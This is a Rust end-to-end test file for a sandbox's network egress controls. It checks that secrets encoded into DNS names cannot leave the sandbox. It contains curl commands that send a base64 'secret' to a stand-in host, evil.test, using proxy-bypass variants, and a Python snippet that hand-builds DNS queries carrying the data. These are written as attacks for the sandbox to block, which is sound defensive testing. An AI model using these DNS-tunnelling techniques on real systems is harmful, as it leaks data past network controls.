//! DNS as a channel: a secret in a name reaches whoever answers for the zone (OpenShell #1169, cleanroom #494, httpjail #54).

use std::net::IpAddr;

use ringfence_e2e::{Host, NameServer};

#[test]
fn nothing_of_a_denied_name_leaves() {
    let server = NameServer::start(|_| vec![IpAddr::from([192, 0, 2, 1])]).unwrap();
    let mut host = Host::new();
    host.dns_server(server.address());
    let ended = host.run().allow("good.test:443").sh(
        "getent ahosts c2VjcmV0.evil.test >/dev/null && echo resolved
         curl -sS https://c2VjcmV0.evil.test/
         curl -sS --noproxy '*' https://c2VjcmV0.evil.test/
         curl -sS --socks5-hostname 198.18.0.1:3128 https://c2VjcmV0.evil.test/
         curl -sS http://c2VjcmV0.evil.test/
         curl -sS https://c2VjcmV0.good.test/
         curl -sS https://good.test:8443/; true",
    );
    // Every name has an address inside, which says nothing about the outside.
    assert!(ended.stdout.contains("resolved"), "{ended}");
    assert!(
        ended.was_refused("c2vjcmv0.evil.test:443", "no-rule"),
        "{ended}"
    );
    assert!(
        ended.was_refused("good.test:8443", "port-not-allowed"),
        "{ended}"
    );
    assert_eq!(server.questions(), [], "{ended}");
}

#[test]
fn a_question_of_the_agents_own_making_is_never_forwarded() {
    let server = NameServer::start(|_| vec![IpAddr::from([192, 0, 2, 1])]).unwrap();
    let mut host = Host::new();
    host.dns_server(server.address());
    let ended = host.run().allow("good.test:443").python(QUESTIONS);
    assert_eq!(ended.stdout, "answered\n".repeat(5), "{ended}");
    assert_eq!(server.questions(), []);
}

#[test]
fn an_allowed_name_is_looked_up_as_itself_and_with_nothing_beside_it() {
    let server = NameServer::start(|_| vec![IpAddr::from([10, 0, 0, 1])]).unwrap();
    let mut host = Host::new();
    host.dns_server(server.address());
    let ended = host
        .run()
        .allow("good.test:443")
        .sh("curl -sS https://GOOD.test/; true");
    assert!(
        ended.was_refused("good.test:443", "address-not-public"),
        "{ended}"
    );
    let questions = server.questions();
    assert!(!questions.is_empty());
    for question in questions {
        assert_eq!(question.name.to_ascii_lowercase(), "good.test");
        assert!([1, 28].contains(&question.kind), "{question:?}");
    }
}

/// TXT, NULL and CNAME questions, one with a record and an EDNS option that carry data, and one to a server of choice.
const QUESTIONS: &str = r#"
from wire import *
name = b"\x08c2VjcmV0\x04good\x04test\x00"
extra = b"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x0a\xff\x00\x00\x06c2VjcmV0"[:-2]
for kind, server, additional in ((16, "198.18.0.1", b""), (10, "198.18.0.1", b""), (5, "198.18.0.1", b""),
                                 (1, "198.18.0.1", extra), (1, "192.0.2.53", b"")):
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00" + struct.pack("!H", 1 if additional else 0)
    query += name + struct.pack("!HH", kind, 1) + additional
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(PATIENCE)
        connection.sendto(query, (server, 53))
        answer = connection.recv(4096)
        show("answered" if answer[:2] == b"\x12\x34" and b"\x0a\x00\x00\x01" not in answer else answer.hex())
"#;
